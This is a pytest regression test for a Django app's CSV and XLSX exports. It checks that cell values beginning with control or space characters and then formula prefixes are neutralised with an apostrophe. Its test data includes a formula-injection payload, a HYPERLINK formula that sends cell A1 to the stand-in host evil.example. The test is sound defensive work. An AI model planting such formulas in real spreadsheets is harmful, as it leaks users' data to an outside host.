"""Issue 15: no spreadsheet cell becomes a formula, whatever control or space characters come first.

The apostrophe guard used to look at the first character before the XLSX writer dropped the
control characters a spreadsheet cannot hold, so ``"\\x01=HYPERLINK(...)"`` went out as the live
formula ``=HYPERLINK(...)``. ``access.spreadsheets.safe_cell`` now strips first and guards what
is left, and every cell of every download goes through it.
"""

from __future__ import annotations

import csv
import io
from datetime import date

import pytest
from django.urls import reverse
from openpyxl import load_workbook

from access.spreadsheets import safe_cell
from contracts import roles
from exports.tables import Column, Table, csv_lines, write_xlsx
from tests.export_helpers import read_csv, read_xlsx, spreadsheet_download
from tests.factories import make_contract, make_milestone, make_team, make_user

PREFIXES = ["=", "+", "-", "@", "\t", "\r", "\n"]
# Runs a title might begin with: nothing, control characters a spreadsheet drops, spaces
# (ordinary, no-break, zero-width) and mixtures of them.
RUNS = ["", "\x01", "\x00\x1f\x08", " ", "   ", "\u00a0", "\u200b", "\ufeff", "\x01 \x0b\x0c ", " \x02\t"]
PAYLOAD = 'HYPERLINK("http://evil.example/?x="&A1,"Click")'


def _cases():
    return [pytest.param(run + prefix + PAYLOAD, id=f"{run!r}+{prefix!r}") for run in RUNS for prefix in PREFIXES]


def _unsafe(text: str) -> bool:
    """What a spreadsheet could run: after any leading spaces, a formula character; or a bare tab/CR/LF first."""
    if text.startswith(("\t", "\r", "\n")):
        return True
    return text.lstrip(" \u00a0\u200b\ufeff\t\r\n").startswith(("=", "+", "-", "@"))


def _table(value) -> Table:
    return Table(columns=[Column("Title", lambda row: row)], rows=[value], sheet_title="Test", filename_stem="test")


@pytest.mark.parametrize("value", _cases())
def test_safe_cell_guards_a_formula_behind_any_run_of_control_or_space_characters(value):
    written = safe_cell(value)

    assert written.startswith("'"), repr(written)
    assert not any(ord(character) < 32 and character not in "\t\r\n" for character in written)


@pytest.mark.parametrize("value", _cases())
def test_no_csv_cell_can_be_read_as_a_formula(value):
    text = "".join(csv_lines(_table(value)))

    cell = list(csv.reader(io.StringIO(text[1:], newline="")))[1][0]
    assert cell.startswith("'") and not _unsafe(cell)


@pytest.mark.parametrize("value", _cases())
def test_no_xlsx_cell_is_a_formula(value):
    stream = io.BytesIO()
    write_xlsx(_table(value), stream)
    stream.seek(0)

    cell = load_workbook(stream).active["A2"]
    assert cell.data_type == "s", cell.data_type
    assert cell.value.startswith("'") and not _unsafe(cell.value)


@pytest.mark.parametrize("text", ["MK ACT", "  Refuge = 28 flats", "\x01Refuge", "ASC0013"])
def test_ordinary_text_gets_no_apostrophe_only_the_control_characters_go(text):
    assert safe_cell(text) == text.replace("\x01", "")


@pytest.mark.django_db
@pytest.mark.parametrize(
    ("download", "column"), [("exports:register-xlsx", "Title"), ("exports:milestones-xlsx", "Milestone")]
)
def test_a_control_character_before_a_formula_in_a_title_arrives_as_text_in_the_xlsx_downloads(
    client, download, column
):
    team = make_team(name="Domestic abuse team")
    officer = make_user(role=roles.OFFICER, teams=[team])
    title = '\x01=HYPERLINK("http://evil.example","Click")'
    contract = make_contract(reference="MK-EVIL", title=title, team=team, option_months=())
    make_milestone(contract=contract, title=title, due_on=date(2027, 1, 5))
    client.force_login(officer)

    _, rows, _ = read_xlsx(spreadsheet_download(client, reverse(download)))

    cells = [row[column] for row in rows if (row[column].value or "").endswith('"Click")')]
    assert cells, "the title is in the download"
    for cell in cells:
        assert cell.data_type == "s"
        assert cell.value == '\'=HYPERLINK("http://evil.example","Click")'


@pytest.mark.django_db
def test_a_control_character_before_a_formula_arrives_as_text_in_the_csv_download(client):
    team = make_team(name="Domestic abuse team")
    officer = make_user(role=roles.OFFICER, teams=[team])
    make_contract(reference="MK-EVIL", title="\x01\x02 @SUM(1+1)", team=team, option_months=())
    client.force_login(officer)

    _, rows = read_csv(client.get(reverse("exports:register-csv")))

    assert [row["Title"] for row in rows] == ["' @SUM(1+1)"]
